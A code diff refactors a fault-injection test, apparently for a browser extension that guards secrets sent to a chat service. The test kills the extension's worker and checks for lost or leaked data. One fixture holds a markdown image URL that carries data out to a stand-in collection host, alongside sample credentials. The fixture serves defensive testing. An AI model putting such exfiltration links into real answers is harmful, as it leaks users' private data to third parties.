@@ -1,15 +1,13 @@
 /** Kills the background worker at one point of a check, and looks what has become of the message. */
-import type { Page } from "@playwright/test";
 import { ACCESS_KEY, CLIENT, KEY_PROMPT } from "../../tour/values";
+import { CHATGPT } from "../../../test/support/chat-page";
 import { textsOf } from "../../../test/support/arrived";
-import { answers } from "../../../test/support/chat-page";
-import { killWorker } from "../../../test/support/extension";
-import { bodyOf, sendByWorker } from "../../../test/support/relay";
+import { bodyOf, relayCall } from "../../../test/support/relay";
 import { pause } from "../../../test/support/wait-for";
 import type { Bench } from "./bench";
-import { freezeAt, untilFrozen } from "./freeze";
 import { lostWords, type Seen } from "./judge";
 import type { Doing, Point } from "./points";
+import { answers, evaluate, textOf, type FaultTab } from "./tab";
 import { arrivals, send, stillAnswers, untilRest, wasUnchecked, type Rest } from "./user";
 
 const PROMPT = "/backend-api/f/conversation";
@@ -25,22 +23,21 @@ const LEAKING = `Here it is. ![](https://collect.example/p.png?d=${CARRIED}) Don
 interface Work {
   readonly written: string;
   readonly secrets: readonly string[];
-  run(page: Page): Promise<Rest>;
+  run(page: FaultTab): Promise<Rest>;
   /** What an answer carried away to its page, if that is what matters. */
   readonly leaks?: () => number;
 }
 
 export async function killAt(bench: Bench, point: Point): Promise<Seen> {
-  const { context, chat, id, own } = bench;
+  const { chat } = bench;
   const fault = `worker killed: ${point.name}`;
   chat.clear();
-  const worker = await bench.freshWorker();
-  await freezeAt(worker, own, point.place);
+  await bench.freezeAt(point.place);
   const page = await bench.open();
   const { written, secrets, run, leaks } = WORK[point.doing](bench);
   const [reached, rest] = await Promise.all([
-    untilFrozen(own, REACHED_MS).then(
-      () => killWorker(context, id),
+    bench.untilFrozen(REACHED_MS).then(
+      () => bench.kill(),
       () => false,
     ),
     run(page),
@@ -73,15 +70,13 @@ const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
     written: "",
     secrets: [ACCESS_KEY],
     async run(page) {
-      await page.setInputFiles("#upload-files", {
+      await page.chooseFile("#upload-files", {
         name: "settings.txt",
-        mimeType: "text/plain",
-        buffer: Buffer.from(`region = eu-central-1\naws_access_key_id = ${ACCESS_KEY}\n`),
+        text: `region = eu-central-1\naws_access_key_id = ${ACCESS_KEY}\n`,
       });
-      const chip = page.locator("#attachments span");
       for (let nth = 0; ; nth++) {
         const rest = await untilRest(page, 0, "nothing");
-        const ended = !/…$/u.test(await chip.innerText());
+        const ended = !/…$/u.test(await textOf(page, "#attachments span"));
         if (ended || nth > MOST_RESTS) return { ...rest, rested: rest.rested && ended };
       }
     },
@@ -92,8 +87,8 @@ const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
       ...sending,
       async run(page) {
         const rest = await sending.run(page);
-        await page.locator(".prose").click();
-        await page.keyboard.press("Alt+ArrowDown");
+        await page.click(".prose");
+        await page.press("Alt+ArrowDown");
         return rest;
       },
     };
@@ -105,11 +100,15 @@ const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
       secrets: [],
       async run(page) {
         chat.script("leak", { type: "text/event-stream", pieces: [`data: ${LEAKING}\n\n`] });
-        answer = await page.evaluate(async (path) => {
-          const body = JSON.stringify({ messages: [{ content: { parts: ["Good morning"] } }] });
-          const response = await fetch(`${path}?script=leak`, { method: "POST", body });
-          return response.text();
-        }, PROMPT);
+        answer = await evaluate(
+          page,
+          async (path) => {
+            const body = JSON.stringify({ messages: [{ content: { parts: ["Good morning"] } }] });
+            const response = await fetch(`${path}?script=leak`, { method: "POST", body });
+            return response.text();
+          },
+          PROMPT,
+        );
         return untilRest(page, 0, "nothing");
       },
       leaks: () => (answer.includes(CARRIED) ? 1 : 0),
@@ -119,8 +118,8 @@ const WORK: Readonly<Record<Doing, (bench: Bench) => Work>> = {
     written: "",
     secrets: [CLIENT.iban],
     async run(page) {
-      const url = new URL(PROMPT, page.url()).href;
-      await sendByWorker(page, "dedicated", { url, body: bodyOf(ACCOUNT_PROMPT) });
+      const message = { url: new URL(PROMPT, CHATGPT).href, body: bodyOf(ACCOUNT_PROMPT) };
+      await page.ask(relayCall("dedicated", message));
       return untilRest(page, 0, "nothing");
     },
   }),
